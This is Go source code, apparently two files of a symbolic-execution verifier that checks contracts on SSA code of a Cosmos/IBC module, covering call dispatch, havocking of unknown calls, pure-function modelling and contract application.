	if n, ok := it.(*types.Named); !ok || n.Obj().Pkg() == nil || !strings.HasPrefix(n.Obj().Pkg().Path(), modPath) {
		// only teleport-declared interfaces (expected-keeper style)
		return nil
	}
	var found *ssa.Function
	count := 0
	for _, sp := range e.P.SSA {
		for _, mem := range sp.Members {
			tn, ok := mem.(*ssa.Type)
			if !ok {
				continue
			}
			T := tn.Type()
			if _, isI := T.Underlying().(*types.Interface); isI {
				continue
			}
			for _, cand := range []types.Type{T, types.NewPointer(T)} {
				if types.Implements(cand, iface) {
					if f := e.P.Prog.LookupMethod(cand, m.Pkg(), m.Name()); f != nil {
						found = f
						count++
					}
					break
				}
			}
		}
	}
	if count == 1 {
		return found
	}
	return nil
}

func (e *Env) recvFromIface(st *State, recv Val, impl *ssa.Function) Val {
	rt := impl.Signature.Recv().Type()
	it := e.term(st, recv)
	ub := e.unbox(st, it, rt)
	if p, ok := rt.Underlying().(*types.Pointer); ok {
		if _, isS := p.Elem().Underlying().(*types.Struct); isS {
			s := e.sortOfT(rt)
			c := e.newCell(st, e.wrapTerm(p.Elem(), tApp("val_"+s, ub)))
			return Val{K: kPtr, Typ: rt, Ptr: &Pointer{Cell: c, RO: true}}
		}
	}
	return e.wrapTerm(rt, ub)
}

func (e *Env) dispatch(st *State, fn *ssa.Function, args []Val, binds []Val, rt types.Type, depth int, c *ssa.CallCommon) []Out {
	name := fn.String()
	e.callSiteChecks(st, fn.Name(), paramNamesOf(fn), args, c)
	// synthetic wrappers: bound method closures / thunks
	if fn.Synthetic != "" && fn.Blocks != nil && (strings.HasPrefix(fn.Synthetic, "bound method") || strings.HasPrefix(fn.Synthetic, "wrapper") || strings.HasPrefix(fn.Synthetic, "thunk")) {
		return e.inline(st, fn, args, binds, depth)
	}
	if ct := e.Cx.forFunc(fn); ct != nil && ct.Pure && !e.applying[ct] {
		// declared pure: an (assumed) deterministic, side-effect-free function of its arguments; modelled as an
		// uninterpreted function, so two calls with equal arguments agree (used for hashing / signature recovery)
		e.trusted["declared pure (assumed deterministic function of its arguments): "+relFuncName(fn)]++
		return e.pureCall(st, name, args, rt)
	}
	if ct := e.Cx.forFunc(fn); ct != nil && !(e.noContract[fn]) && !e.applying[ct] && !ct.Inline {
		// (a contract that mentions its own function is unfolded through the body on re-entry)
		e.applying[ct] = true
		outs := e.applyContract(st, ct, args, rt, c)
		delete(e.applying, ct)
		return outs
	}
	if ct := e.Cx.externFor(name, e.topFn); ct != nil {
		return e.applyContract(st, ct, args, rt, c)
	}
	if f, ok := intrinsicsByName[name]; ok {
		return f(e, st, args, rt, c)
	}
	if droppedName(name) {
		e.dropped[name]++
		return []Out{{st: st, res: e.resultHavoc(st, rt, "dropped")}}
	}
	// static calls of store / iterator methods on tracked handles (e.g. prefix.Store is a concrete type)
	if len(args) > 0 && (args[0].K == kStore || args[0].K == kIter) && fn.Signature.Recv() != nil {
		if f, ok := intrinsicsInvoke[fn.Name()]; ok {
			return f(e, st, args[0], args[1:], rt, c)
		}
	}
	// protobuf-style getters of external message types: GetX() returns field X
	if fn.Blocks == nil && strings.HasPrefix(fn.Name(), "Get") && fn.Signature.Recv() != nil && fn.Signature.Params().Len() == 0 && len(args) == 1 {
		if v, ok := e.protoGetter(st, args[0], strings.TrimPrefix(fn.Name(), "Get")); ok {
			return []Out{{st: st, res: v}}
		}
	}
	if fn.Blocks != nil && (isTeleport(fn) || fn.Parent() != nil && isTeleport(fn.Parent())) {
		if depth < maxInlineDepth && !e.onStack(fn) {
			return e.inline(st, fn, args, binds, depth)
		}
		e.notes["inline depth/recursion limit reached, havocked: "+name]++
	}
	if f := pureExternal(name); f {
		return e.pureCall(st, name, args, rt)
	}
	return e.havocCall(st, name, args, rt)
}

// protoGetter: value of field `name` of a (pointer to a) struct value.
func (e *Env) protoGetter(st *State, recv Val, name string) (Val, bool) {
	v := recv
	if v.K == kPtr {
		v = e.load(st, v.Ptr)
	} else if v.K == kTerm && v.Typ != nil {
		if _, isP := v.Typ.Underlying().(*types.Pointer); isP {
			p := e.asPointer(st, v, token.NoPos)
			v = e.load(st, p)
		}
	}
	if v.Typ == nil {
		return Val{}, false
	}
	stt, ok := v.Typ.Underlying().(*types.Struct)
	if !ok {
		return Val{}, false
	}
	for i := 0; i < stt.NumFields(); i++ {
		if stt.Field(i).Name() == name {
			e.trusted["generated protobuf getters GetX() return field X"]++
			return e.field(st, v, i), true
		}
	}
	return Val{}, false
}

func paramNamesOf(fn *ssa.Function) []string {
	var out []string
	for _, p := range fn.Params {
		out = append(out, p.Name())
	}
	if len(out) == 0 && fn.Signature != nil {
		// external function (no body): names from the signature, receiver first
		if r := fn.Signature.Recv(); r != nil {
			out = append(out, "recv")
		}
		for i := 0; i < fn.Signature.Params().Len(); i++ {
			n := fn.Signature.Params().At(i).Name()
			if n == "" || n == "_" {
				n = fmt.Sprintf("a%d", i)
			}
			out = append(out, n)
		}
	}
	return out
}

// sourceName: the source-level variable name an SSA value is bound to (via debug references), else its SSA name.
func sourceName(fn *ssa.Function, v ssa.Value) string {
	for _, b := range fn.Blocks {
		for _, ins := range b.Instrs {
			if d, ok := ins.(*ssa.DebugRef); ok && d.X == v && !d.IsAddr {
				if id, ok := d.Expr.(*ast.Ident); ok {
					return id.Name
				}
			}
		}
	}
	return v.Name()
}

func ifaceParamNames(e *Env, t types.Type, m *types.Func) []string {
	if ct := e.Cx.ifaceContract(t, m.Name()); ct != nil {
		return ct.Params
	}
	if t != nil {
		if ct := e.Cx.extern["("+t.String()+")."+m.Name()]; ct != nil {
			return ct.Params
		}
	}
	out := []string{"recv"}
	sig := m.Type().(*types.Signature)
	for i := 0; i < sig.Params().Len(); i++ {
		n := sig.Params().At(i).Name()
		if n == "" {
			n = fmt.Sprintf("a%d", i)
		}
		out = append(out, n)
	}
	return out
}

// callSiteChecks generates the obligations of "callsite" clauses of the function being verified.
func (e *Env) callSiteChecks(st *State, callee string, names []string, args []Val, c *ssa.CallCommon) {
	if e.specMode > 0 || e.topFn == nil {
		return
	}
	ct := e.Cx.forFunc(e.topFn)
	if ct == nil {
		return
	}
	for _, cs := range ct.CallSites {
		if strings.ContainsAny(cs.Callee, ".(") {
			// qualified callee, e.g. "(MerkleProof).VerifyMembership" or "ics23.VerifyMembership": suffix of the full name
			full := ""
			if c != nil {
				full = callName(c)
			}
			if !strings.HasSuffix(full, cs.Callee) {
				continue
			}
		} else if cs.Callee != callee {
			continue
		}
		vars := map[string]Val{}
		if e.curFrame != nil {
			for k, v := range e.localVars(st, e.curFrame) {
				vars[k] = v
			}
		}
		for k, v := range e.topVars {
			vars[k] = v
		}
		for i, n := range names {
			if i < len(args) && n != "" && n != "_" {
				vars["dollar_"+n] = args[i]
				if _, clash := vars[n]; !clash {
					vars[n] = args[i]
				}
			}
		}
		cx := &cenv{e: e, pre: e.oldState, post: st, vars: vars, ct: ct, file: ct.File}
		saved := e.err
		g := cx.evalBool(cs.Clause.Expr)
		if saved == nil && e.err != nil {
			e.clauseErrs = append(e.clauseErrs, fmt.Sprintf("%s/callsite:%s: %v", e.curName, cs.Clause.Label, e.err))
			e.err = nil
			e.callSiteHits[cs.Clause.Label]++
			continue
		}
		pos := token.NoPos
		if c != nil {
			pos = c.Pos()
		}
		e.callSiteHits[cs.Clause.Label]++
		e.oblige(st, "callsite", cs.Clause.Label, g, "at call of "+callee+": "+cs.Clause.Text, pos)
	}
}

var inlineStack []*ssa.Function

func (e *Env) onStack(fn *ssa.Function) bool {
	for _, f := range inlineStack {
		if f == fn {
			return true
		}
	}
	return false
}

func (e *Env) inline(st *State, fn *ssa.Function, args []Val, binds []Val, depth int) []Out {
	if isTeleport(fn) && fn.Synthetic == "" {
		e.inlined[fn.String()]++
	}
	inlineStack = append(inlineStack, fn)
	defer func() { inlineStack = inlineStack[:len(inlineStack)-1] }()
	return e.execFunc(st, fn, args, binds, depth+1)
}

func (e *Env) resultHavoc(st *State, rt types.Type, why string) Val {
	if rt == nil {
		return Val{K: kUnit}
	}
	if tup, ok := rt.(*types.Tuple); ok {
		if tup.Len() == 0 {
			return Val{K: kUnit}
		}
		if tup.Len() == 1 {
			return e.symbolicResult(st, tup.At(0).Type(), why)
		}
		r := Val{K: kTuple}
		for i := 0; i < tup.Len(); i++ {
			r.Elems = append(r.Elems, e.symbolicResult(st, tup.At(i).Type(), why))
		}
		return r
	}
	return e.symbolicResult(st, rt, why)
}

func (e *Env) symbolicResult(st *State, t types.Type, why string) Val {
	if isCtxType(t) {
		return e.symbolic(st, t, "ctx_"+smtSym(why))
	}
	v := e.symbolic(st, t, "r_"+smtSym(trunc(why, 20)))
	if _, isI := t.Underlying().(*types.Interface); isI && v.K == kTerm && !types.Identical(t, errType) {
		e.maybeNilIface[v.T] = true
	}
	if v.K == kPtr {
		// a returned pointer may be nil
		v.Nil = e.D.fresh("isnil", sBool)
	}
	return v
}

// havocCall: unknown callee. Result arbitrary; everything reachable from its arguments havocked.
func (e *Env) havocCall(st *State, name string, args []Val, rt types.Type) []Out {
	e.havocked[name]++
	for _, a := range args {
		e.havocReach(st, a, name, 0)
	}
	res := e.resultHavoc(st, rt, lastName(name))
	e.callSeq++
	st.calls = append(st.calls, CallRec{Name: name, Args: args, Res: res, Seq: e.callSeq})
	return []Out{{st: st, res: res}}
}

func lastName(n string) string {
	// strip a trailing parameter list "(a, b)"
	if strings.HasSuffix(n, ")") {
		if j := strings.LastIndex(n, "("); j > 0 && !strings.HasPrefix(n[j:], "(*") && !strings.Contains(n[j:], "/") {
			n = n[:j]
		}
	}
	if i := strings.LastIndexAny(n, "./)"); i >= 0 && i+1 < len(n) {
		return n[i+1:]
	}
	return n
}

func (e *Env) havocReach(st *State, a Val, why string, d int) {
	if d > 3 {
		return
	}
	switch a.K {
	case kCtx:
		e.havocWorld(st, a.World, why)
	case kStore:
		e.havocStore(st, a.Store, why)
	case kPtr:
		if a.Ptr.RO {
			return
		}
		cur := e.load(st, a.Ptr)
		if cur.Typ != nil {
			e.store(st, a.Ptr, e.symbolic(st, cur.Typ, "havoc_ptr"))
		}
	case kIface:
		e.havocReach(st, *a.Inner, why, d+1)
	case kClosure:
		for _, b := range a.Bind {
			e.havocReach(st, b, why, d+1)
		}
	case kArr, kRecord, kTuple:
		for _, el := range a.Elems {
			e.havocReach(st, el, why, d+1)
		}
	}
}

// package-level function variables initialised with a compiled regular expression's MatchString
var pureFuncGlobals = map[string]bool{"IsRevisionFormat": true, "IsValidID": true, "IsValidRule": true}

var pureMethodRe = regexp.MustCompile(`\)\.(ValidateBasic|GetSigners|GetSignBytes|String|Route|Type|Bytes|Hex|IsContract|Empty|Equal|Equals)$`)

func pureExternal(name string) bool {
	if pureMethodRe.MatchString(name) && !strings.Contains(name, modPath) {
		return true
	}
	for _, p := range []string{"strings.", "bytes.", "strconv.", "math.", "unicode", "encoding/hex.", "crypto/sha256.", "errors.", "fmt.S", "fmt.Errorf",
		"github.com/ethereum/go-ethereum/common.", "(github.com/ethereum/go-ethereum/common.", "github.com/ethereum/go-ethereum/crypto.", "math/bits.", "regexp.", "(*regexp.",
		"github.com/ethereum/go-ethereum/common/hexutil.", "(github.com/cosmos/cosmos-sdk/types.AccAddress).", "github.com/cosmos/cosmos-sdk/types.AccAddressFromBech32",
		"(time.Time).", "(time.Duration).", "sort.SearchInts", "github.com/cosmos/cosmos-sdk/types/errors.", "(*github.com/cosmos/cosmos-sdk/types/errors.Error).",
		"github.com/tendermint/tendermint/crypto/tmhash.", "github.com/gogo/protobuf/proto.CompactTextString", "github.com/cosmos/ibc-go/v3/modules/apps/transfer/types.", "(github.com/cosmos/ibc-go/v3/modules/apps/transfer/types.DenomTrace).", "github.com/cosmos/cosmos-sdk/types.NewIntFromString", "(*github.com/cosmos/cosmos-sdk/codec/types.Any).GetCachedValue", "github.com/cosmos/cosmos-sdk/types.NewDecWithPrec", "github.com/tendermint/tendermint/types.ValidatorSetFromProto", "github.com/ethereum/go-ethereum/core/types.BytesToBloom", "github.com/ethereum/go-ethereum/core/types.EncodeNonce", "github.com/ethereum/go-ethereum/core/types.CalcUncleHash", "github.com/tendermint/tendermint/types.SignedHeaderFromProto", "(*github.com/tendermint/tendermint/types.ValidatorSet).Hash", "github.com/cosmos/cosmos-sdk/types.NewCoin", "github.com/cosmos/cosmos-sdk/types.ValidateDenom", "github.com/gogo/protobuf/proto.Equal", "github.com/gogo/protobuf/proto.Size"} {
		if strings.HasPrefix(name, p) {
			return true
		}
	}
	return false
}

// pureCall: deterministic external function: an uninterpreted function of its arguments.
func (e *Env) pureCall(st *State, name string, args []Val, rt types.Type) []Out {
	// go-ethereum: HexToAddress(a.String()) == a and HexToAddress(a.Hex()) == a for every address a
	if name == "github.com/ethereum/go-ethereum/common.HexToAddress" && len(args) == 1 && args[0].K == kTerm {
		for _, pfx := range []string{"(pf__github.com_ethereum_go_ethereum_common.Address_.String_0 ", "(pf__github.com_ethereum_go_ethereum_common.Address_.Hex_0 "} {
			if strings.HasPrefix(args[0].T, pfx) && strings.HasSuffix(args[0].T, ")") {
				inner := args[0].T[len(pfx) : len(args[0].T)-1]
				if balancedOne(inner) {
					e.trusted["go-ethereum: common.HexToAddress(a.String()) == a (hex round trip of an address)"]++
					return []Out{{st: st, res: e.wrapTerm(rt, inner)}}
				}
			}
		}
	}
	e.trusted["pure(deterministic, no side effects): "+name]++
	var ats, sorts []string
	for _, a := range args {
		if a.K == kClosure || a.K == kCtx || a.K == kStore {
			continue
		}
		ats = append(ats, e.term(st, a))
		sorts = append(sorts, e.sortOfT(a.Typ))
	}
	mk := func(t types.Type, i int) Val {
		s := e.sortOfT(t)
		fn := fmt.Sprintf("pf_%s_%d", smtSym(name), i)
		r := e.wrapTerm(t, e.D.uf(fn, sorts, s, ats...))
		return r
	}
	if rt == nil {
		return []Out{{st: st, res: Val{K: kUnit}}}
	}
	if tup, ok := rt.(*types.Tuple); ok {
		if tup.Len() == 0 {
			return []Out{{st: st, res: Val{K: kUnit}}}
		}
		if tup.Len() == 1 {
			return e.recorded(st, name, args, mk(tup.At(0).Type(), 0))
		}
		r := Val{K: kTuple}
		for i := 0; i < tup.Len(); i++ {
			r.Elems = append(r.Elems, mk(tup.At(i).Type(), i))
		}
		return e.recorded(st, name, args, r)
	}
	return e.recorded(st, name, args, mk(rt, 0))
}

func (e *Env) recorded(st *State, name string, args []Val, res Val) []Out {
	e.callSeq++
	st.calls = append(st.calls, CallRec{Name: name, Args: args, Res: res, Seq: e.callSeq})
	return []Out{{st: st, res: res}}
}

// ---------------------------------------------------------------------------
// builtins

func (e *Env) builtin(st *State, name string, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
	switch name {
	case "len", "cap":
		n := e.lenOf(st, args[0])
		return []Out{{st: st, res: termVal(types.Typ[types.Int], bvSort(64), n)}}
	case "append":
		return []Out{{st: st, res: e.appendOp(st, args[0], args[1], rt)}}
	case "copy":
		// dst contents become unknown; length preserved
		if args[0].K == kArr && args[0].Ptr != nil {
			cur := e.load(st, args[0].Ptr)
			e.store(st, args[0].Ptr, e.symbolicLike(st, cur))
		}
		e.notes["copy(): destination contents abstracted"]++
		return []Out{{st: st, res: termVal(types.Typ[types.Int], bvSort(64), e.D.fresh("copied", bvSort(64)))}}
	case "delete":
		e.fail("builtin delete on maps not supported at %s", e.pos(c.Pos()))
		return nil
	case "ssa:wrapnilchk":
		// wrapper receiver nil check: returns its first argument
		return []Out{{st: st, res: args[0]}}
	case "print", "println":
		return []Out{{st: st, res: Val{K: kUnit}}}
	case "min", "max":
		a, b := e.term(st, args[0]), e.term(st, args[1])
		lt := "bvult"
		if isSigned(args[0].Typ) {
			lt = "bvslt"
		}
		if name == "min" {
			return []Out{{st: st, res: e.wrapTerm(rt, tIte(tApp(lt, a, b), a, b))}}
		}
		return []Out{{st: st, res: e.wrapTerm(rt, tIte(tApp(lt, a, b), b, a))}}
	}
	e.fail("unsupported builtin %s", name)
	return nil
}

func (e *Env) symbolicLike(st *State, v Val) Val {
	if _, isArray := v.Typ.Underlying().(*types.Array); v.K == kArr && isArray {
		out := v
		out.Elems = make([]Val, len(v.Elems))
		for i := range v.Elems {
			out.Elems[i] = e.symbolic(st, elemType(v.Typ), "el")
		}
		return out
	}
	return e.symbolic(st, v.Typ, "havoc")
}

func (e *Env) appendOp(st *State, a, b Val, rt types.Type) Val {
	s := e.sortOfT(rt)
	if s == sStr {
		sa, sb := e.byteSegs(st, a), e.byteSegs(st, b)
		segs := concatSegs(sa, sb)
		return Val{K: kTerm, Typ: rt, Sort: sStr, T: e.segsTerm(segs), Segs: segs}
	}
	if a.K == kArr && b.K == kArr {
		r := Val{K: kArr, Typ: rt, Sort: s}
		r.Elems = append(append([]Val(nil), a.Elems...), b.Elems...)
		return r
	}
	// symbolic append: new slice whose first len(a) elements are a's, then b's (for concrete b)
	at := e.term(st, a)
	la := tApp("len_"+s, at)
	arr := tApp("arr_"+s, at)
	if b.K == kArr {
		for i, el := range b.Elems {
			arr = fmt.Sprintf("(store %s (bvadd %s %s) %s)", arr, la, bvLit(uint64(i), 64), e.term(st, el))
		}
		return e.wrapTerm(rt, fmt.Sprintf("(mk_%s (bvadd %s %s) %s)", s, la, bvLit(uint64(len(b.Elems)), 64), arr))
	}
	bt := e.term(st, b)
	lb := tApp("len_"+s, bt)
	es := sliceElemSort(e.D, s)
	na := e.D.fresh("apparr", fmt.Sprintf("(Array (_ BitVec 64) %s)", es))
	e.notes["append(slice, symbolic slice...): elements abstracted"]++
	return e.wrapTerm(rt, fmt.Sprintf("(mk_%s (bvadd %s %s) %s)", s, la, lb, na))
}

// byteSegs views a byte-slice/string value as segments.
func (e *Env) byteSegs(st *State, v Val) []Seg {
	if v.Segs != nil {
		return v.Segs
	}
	if v.K == kArr {
		t := e.arrTerm(st, v)
		if lit, ok := e.litContent(t); ok {
			return litSegs(lit)
		}
		return []Seg{{K: "any", T: t}}
	}
	t := e.term(st, v)
	if lit, ok := e.litContent(t); ok {
		return litSegs(lit)
	}
	if t == "nilStr" {
		return []Seg{}
	}
	return []Seg{{K: "any", T: t}}
}
