package main

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"os"
	"runtime/debug"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func init() {
	mathIntT = types.NewNamed(types.NewTypeName(token.NoPos, types.NewPackage("math/big", "big"), "Int", nil), types.NewStruct(nil, nil), nil)
}

// paramNames returns the names by which a contract refers to the function's parameters.
func paramNames(ct *Contract, fn *ssa.Function) []string {
	if ct.Fn == nil {
		return ct.Params
	}
	var out []string
	for _, p := range fn.Params {
		out = append(out, p.Name())
	}
	return out
}

func resultNames(sig *types.Signature) []string {
	var out []string
	rs := sig.Results()
	for i := 0; i < rs.Len(); i++ {
		n := rs.At(i).Name()
		if n == "" || n == "_" {
			if types.Identical(rs.At(i).Type(), types.Universe.Lookup("error").Type()) {
				n = "err"
			} else if rs.Len() == 1 || i == 0 {
				n = "result"
			} else {
				n = fmt.Sprintf("result%d", i)
			}
		}
		out = append(out, n)
	}
	return out
}

func bindResults(vars map[string]Val, sig *types.Signature, res Val) {
	names := resultNames(sig)
	if len(names) == 0 {
		return
	}
	if len(names) == 1 {
		vars[names[0]] = res
		if names[0] != "result" {
			vars["result"] = res
		}
		return
	}
	if res.K == kTuple {
		for i, n := range names {
			if i < len(res.Elems) {
				vars[n] = res.Elems[i]
				vars[fmt.Sprintf("result%d", i)] = res.Elems[i]
			}
		}
	}
}

// applyContract: modular call. Assert requires, havoc modifies, assume ensures.
func (e *Env) applyContract(st *State, ct *Contract, args []Val, rt types.Type, c *ssa.CallCommon) []Out {
	var sig *types.Signature
	var names []string
	if ct.Fn != nil {
		sig = ct.Fn.Signature
		names = paramNames(ct, ct.Fn)
	} else {
		names = ct.Params
	}
	vars := map[string]Val{}
	for i, n := range names {
		if i < len(args) && n != "" && n != "_" {
			vars[n] = args[i]
		}
	}
	key := ct.PkgPath + "." + ct.Key
	if ct.Trusted {
		e.trusted["assumed contract (trusted, body not verified): "+key]++
	} else {
		e.notes["callee contract used: "+key]++
	}
	pos := token.NoPos
	if c != nil {
		pos = c.Pos()
	}
	// a callback handed to a callee that is represented by its contract may be invoked by it, any number of times, with
	// any arguments: under nopanic its body is executed once on symbolic arguments (for its panic-site obligations)
	// and what it captured by reference is then unknown
	if e.specMode == 0 {
		for _, a := range args {
			if a.K == kClosure && a.Fn != nil && a.Fn.Blocks != nil && isTeleport(a.Fn) && !e.onStack(a.Fn) {
				if e.nopanic {
					e.notes["callback passed to a contracted callee: body checked once on symbolic arguments (panic sites)"]++
					scratch := st.clone()
					var cargs []Val
					if a.Bound != nil {
						cargs = append(cargs, *a.Bound)
					}
					for _, prm := range a.Fn.Params[len(cargs):] {
						cargs = append(cargs, e.symbolic(scratch, prm.Type(), "cb_"+prm.Name()))
					}
					savedPaths := e.paths
					e.inline(scratch, a.Fn, cargs, a.Bind, 1)
					e.paths = savedPaths
				}
				// whether or not its body is looked at: the callee may run the callback, so the variables the callback
				// captured by reference hold unknown values afterwards (found with the BSC pruning callback, whose
				// result variables kept their initial nil and made the pruning branch unreachable)
				e.notes["callback passed to a contracted callee: the variables it captured are unknown after the call"]++
				mayWrite := closureMayWrite(a.Fn)
				for i, b := range a.Bind {
					if i < len(mayWrite) && !mayWrite[i] {
						continue // only read by the callback
					}
					e.havocReach(st, b, "callback", 0)
				}
			}
		}
	}
	cx := &cenv{e: e, pre: st, post: st, vars: vars, ct: ct, file: ct.File, applied: true}
	if e.specMode == 0 {
		for _, r := range ct.Requires {
			g := cx.evalBool(r.Expr)
			e.oblige(st, "pre-callsite", lastName(ct.Key)+":"+r.Label+"@"+e.pos(pos), g, r.Text, pos)
			st.assume(g)
		}
	}
	pre := st.clone()
	var preW map[string]string
	var ctxW int
	for _, a := range args {
		if a.K == kIface && a.Inner != nil && a.Inner.K == kCtx {
			a = *a.Inner
		}
		if a.K == kCtx {
			ctxW = a.World
			preW = e.worldComps(st, a.World)
			break
		}
	}
	// modifies
	for _, m := range ct.Modifies {
		e.applyModifies(st, cx, m)
	}
	// results
	var res Val
	if ct.Fn != nil {
		res = e.resultHavoc(st, sig.Results(), lastName(ct.Key))
	} else {
		res = e.resultHavoc(st, rt, lastName(ct.Key))
	}
	post := &cenv{e: e, pre: pre, post: st, vars: vars, ct: ct, file: ct.File, applied: true}
	if sig != nil {
		bindResults(post.vars, sig, res)
	} else if tup, ok := rt.(*types.Tuple); ok {
		bindResults(post.vars, types.NewSignatureType(nil, nil, nil, nil, tup, false), res)
	} else if rt != nil {
		post.vars["result"] = res
		if types.Identical(rt, types.Universe.Lookup("error").Type()) {
			post.vars["err"] = res
		}
	}
	for _, en := range ct.Ensures {
		saved := e.err
		g := post.evalBool(en.Expr)
		if saved == nil && e.err != nil && strings.Contains(e.err.Error(), "callres cannot be used") {
			// a clause about the callee's own internal calls tells the caller nothing it can use: not assumed
			e.err = nil
			continue
		}
		st.assume(g)
	}
	e.callSeq++
	rec := CallRec{Name: key, Args: args, Res: res, Seq: e.callSeq, PreW: preW}
	if preW != nil {
		rec.PostW = e.worldComps(st, ctxW)
	}
	st.calls = append(st.calls, rec)
	return []Out{{st: st, res: res}}
}

func (e *Env) applyModifies(st *State, cx *cenv, m Clause) {
	// forms: comp(ctx) | world(ctx) | *p | p (pointer parameter)
	switch x := m.Expr.(type) {
	case *ast.CallExpr:
		if id, ok := x.Fun.(*ast.Ident); ok && len(x.Args) == 1 {
			v := cx.eval(x.Args[0])
			if v.K != kCtx {
				e.fail("modifies %s: argument is not a context", m.Text)
				return
			}
			if id.Name == "world" {
				e.havocWorld(st, v.World, "modifies world")
				return
			}
			if isComp(e, id.Name) {
				e.havocComp(st, v.World, id.Name, "modifies")
				return
			}
		}
	case *ast.StarExpr:
		v := cx.eval(x.X)
		e.havocReach(st, v, "modifies", 0)
		return
	case *ast.Ident:
		v := cx.eval(x)
		e.havocReach(st, v, "modifies", 0)
		return
	}
	if call, ok := m.Expr.(*ast.CallExpr); ok {
		// below(ctx-store-expression): a store handle expression, e.g. k.ClientStore(ctx, chainName)
		v := cx.eval(call)
		if v.K == kStore || (v.K == kIface && v.Inner != nil && v.Inner.K == kStore) {
			e.havocReach(st, v, "modifies", 0)
			return
		}
	}
	e.fail("unsupported modifies clause %q", m.Text)
}

// evalInvariant evaluates a loop invariant in the current frame (locals visible by source name).
func (e *Env) evalInvariant(st *State, fr *Frame, ct *Contract, inv Clause) string {
	vars := e.localVars(st, fr)
	for k, lv := range fr.loopVars {
		vars[k] = lv
	}
	// idxN: number of completed iterations of range loop N (range index phi + 1)
	for hb, l := range e.loopInfo(fr.fn).headers {
		for _, ins := range hb.Instrs {
			ph, ok := ins.(*ssa.Phi)
			if !ok || ph.Comment != "rangeindex" {
				continue
			}
			if pv, ok := fr.regs[ph]; ok && pv.K == kTerm {
				t := tApp("bvadd", pv.T, bvLit(1, 64))
				if x, _, isLit := bvLitVal(pv.T); isLit {
					t = bvLit(x+1, 64)
				}
				vars[fmt.Sprintf("idx%d", l.ordinal)] = termVal(types.Typ[types.Int], bvSort(64), t)
			}
		}
	}
	cx := &cenv{e: e, pre: e.oldState, post: st, vars: vars, ct: ct, file: ct.File}
	return cx.evalBool(inv.Expr)
}

// localVars maps source-level names to current values using debug references.
func (e *Env) localVars(st *State, fr *Frame) map[string]Val {
	vars := map[string]Val{}
	for _, p := range fr.fn.Params {
		if v, ok := fr.regs[p]; ok {
			vars[p.Name()] = v
		}
	}
	for _, b := range fr.fn.Blocks {
		for _, ins := range b.Instrs {
			d, ok := ins.(*ssa.DebugRef)
			if !ok {
				continue
			}
			id, ok := d.Expr.(*ast.Ident)
			if !ok {
				continue
			}
			v, ok := fr.regs[d.X]
			if !ok {
				continue
			}
			if d.IsAddr {
				if v.K == kPtr {
					vars[id.Name] = e.load(st, v.Ptr)
				}
				continue
			}
			// prefer header phis (current loop value) over earlier definitions
			if _, isPhi := d.X.(*ssa.Phi); isPhi {
				vars[id.Name] = v
			} else if _, have := vars[id.Name]; !have {
				vars[id.Name] = v
			}
		}
	}
	// the visited set of the map iteration in progress (for invariants of range-over-map loops: visited(k))
	for _, v := range fr.regs {
		if v.K == kIter && v.Iter != nil && v.Iter.Over != nil && v.Iter.Visited != "" {
			if mp, ok := v.Iter.Over.Typ.Underlying().(*types.Map); ok {
				vars["visitedset"] = Val{K: kTerm, Typ: mp.Key(), Sort: fmt.Sprintf("(Array %s Bool)", e.sortOfT(mp.Key())), T: v.Iter.Visited}
			}
		}
	}
	// variables that live in memory (named results with a defer, address-taken locals): their current value
	// is the content of the cell, not whichever load of it was executed first
	named := map[string]bool{}
	if res := fr.fn.Signature.Results(); res != nil {
		for i := 0; i < res.Len(); i++ {
			named[res.At(i).Name()] = true
		}
	}
	for _, b := range fr.fn.Blocks {
		for _, ins := range b.Instrs {
			a, ok := ins.(*ssa.Alloc)
			if !ok || a.Comment == "" || a.Comment == "complit" || a.Comment == "varargs" || a.Comment == "_" {
				continue
			}
			if v, ok := fr.regs[a]; ok && v.K == kPtr && v.Nil == "" {
				if _, isParam := vars[a.Comment]; isParam && !named[a.Comment] {
					// spilled parameter copies keep the parameter's entry value semantics unless reassigned: use the cell
				}
				if _, present := st.cells[v.Ptr.Cell]; present {
					vars[a.Comment] = e.load(st, v.Ptr)
				}
			}
		}
	}
	return vars
}

// ---------------------------------------------------------------------------

type FuncResult struct {
	Key        string
	Fn         string
	Instrs     int
	Paths      int
	Obls       []*Obligation
	Err        error
	Trusted    map[string]int
	Dropped    map[string]int
	Inlined    map[string]int
	Havocked   map[string]int
	Notes      map[string]int
	Bounded    bool
	Env        *Env
	IsTrusted  bool
	ClauseErrs []string
}

// verifyFunc generates the obligations of one function under contract.
func verifyFunc(p *Program, cx *Contracts, cfg *PropConfig, ct *Contract) (res *FuncResult) {
	e := newEnv(p, cx, cfg)
	fn := ct.Fn
	res = &FuncResult{Key: ct.PkgPath + "." + ct.Key, Env: e}
	// a construct the symbolic executor cannot handle must end as "undecided" for this function, never as a crash
	// of the whole check (and never as a pass)
	defer func() {
		if r := recover(); r != nil {
			stack := string(debug.Stack())
			if i := strings.Index(stack, "panic("); i >= 0 {
				stack = stack[i:]
			}
			lines := strings.Split(stack, "\n")
			if len(lines) > 8 {
				lines = lines[:8]
			}
			res.Err = fmt.Errorf("internal error of the verifier while executing %s: %v [%s]", ct.Key, r, strings.Join(lines, " | "))
		}
	}()
	e.curName = shortPkg(ct.PkgPath) + "." + ct.Key
	if ct.Trusted {
		res.IsTrusted = true
		return res
	}
	if fn == nil {
		return res
	}
	res.Fn = fn.String()
	for _, b := range fn.Blocks {
		res.Instrs += len(b.Instrs)
	}
	e.topFn = fn
	e.nopanic = ct.NoPanic
	e.noContract[fn] = true
	loopCache = map[*ssa.Function]*loopInfoT{}
	st := newState()
	var args []Val
	vars := map[string]Val{}
	for i, prm := range fn.Params {
		v := e.symbolic(st, prm.Type(), prm.Name())
		args = append(args, v)
		vars[prm.Name()] = v
		if ct.renameTo != nil && i < len(ct.renameTo) {
			vars[ct.renameTo[i]] = v // interface contract's parameter names
		}
	}
	// a context.Context parameter of a message server carries the sdk.Context: create its world up front
	for i, prm := range fn.Params {
		if isNamed(prm.Type(), "context", "Context") {
			if f, ok := intrinsicsByName["github.com/cosmos/cosmos-sdk/types.UnwrapSDKContext"]; ok {
				if sdkT := lookupNamed(e, sdkTypes, "Context"); sdkT != nil {
					f(e, st, []Val{args[i]}, sdkT, nil)
				}
			}
		}
	}
	pre := &cenv{e: e, pre: st, post: st, vars: vars, ct: ct, file: ct.File}
	for _, r := range ct.Requires {
		st.assume(pre.evalBool(r.Expr))
	}
	if e.err != nil {
		res.Err = e.err
		return res
	}
